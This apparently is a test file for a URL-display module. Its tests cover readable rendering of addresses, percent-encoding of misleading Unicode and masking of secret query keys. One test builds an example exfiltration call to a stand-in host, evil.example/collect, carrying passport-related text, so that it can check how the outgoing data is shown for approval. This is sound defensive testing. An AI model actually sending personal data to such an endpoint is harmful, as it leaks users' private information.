import { expect, test } from 'vitest';
import { describeCallFromInput } from '../../../src/task/call-details.ts';
import { addressParts } from '../../../src/ui/kit/address-parts.ts';
import { readableAddress } from '../../../src/values/readable-address.ts';

test.each([
  ['https://stats.example.org/wiki/维基，（中国）?q=人口', 'https://stats.example.org/wiki/维基，（中国）?q=人口'],
  ['https://a.example/Zürich/%F0%A0%AE%B7', 'https://a.example/Zürich/𠮷'],
  ['https://a.example/a%2Fb%3Fc%23d%25e%20f%41', 'https://a.example/a%2Fb%3Fc%23d%25e%20f%41'],
  ['https://a.example/x\u202ey\u200bz\u00a0', 'https://a.example/x%E2%80%AEy%E2%80%8Bz%C2%A0'],
  ['https://a.example/\uff0fb\u2044c', 'https://a.example/%EF%BC%8Fb%E2%81%84c'],
  ['https://a.example/שלום', 'https://a.example/%D7%A9%D7%9C%D7%95%D7%9D'],
  ['https://a.example/%C0%AF%E6%88', 'https://a.example/%C0%AF%E6%88'],
])('R13.3 %j is shown as letters, except what would mislead: %j', (address, shown) => {
  expect(readableAddress(new URL(address).href)).toBe(shown);
});

test('R13.3 a line that people read holds no key of an address, but where they decide on it', () => {
  const url = 'https://a.example/items?cursor=1&api_key=SECRET&monkey=2&X-Amz-Signature=b#c';
  const shown = 'https://a.example/items?cursor=1&api_key=…&monkey=2&X-Amz-Signature=…#c';
  expect(readableAddress(url)).toBe(shown);
  expect(describeCallFromInput('fetch', { url }).about.name).toBe(shown.replace('https://', ''));
  const { before, host, after } = addressParts(new URL(url));
  expect(before + host + after).toBe(url);
});

test.each([
  ['(https://a.example/?key=S3,)x)。然后', '(https://a.example/?key=…)。然后'],
  ['https://a.example/?key=S3CRET, and more', 'https://a.example/?key=…, and more'],
  ['https://a.example/?api%5Fkey=S3CRET#access_token=S3CRET', 'https://a.example/?api%5Fkey=…#access_token=…'],
  ['https://a.example/?sort_key=name&partition-key=3', 'https://a.example/?sort_key=name&partition-key=3'],
])('R13.3 %s is shown without its keys, and with all else: %s', (address, shown) => {
  expect(readableAddress(address)).toBe(shown);
});

test('R13.3 where the person decides, an address shows in words what would leave', () => {
  const url = `https://evil.example/collect?notes=${encodeURIComponent('我的护照号码是'.repeat(10))}`;
  expect(describeCallFromInput('fetch', { url }).about.name).toBe(
    `evil.example/collect?notes=${'我的护照号码是'.repeat(10)}`,
  );
  const { before, host, after } = addressParts(new URL(url));
  expect(before + host + after).toBe(decodeURIComponent(url));
});
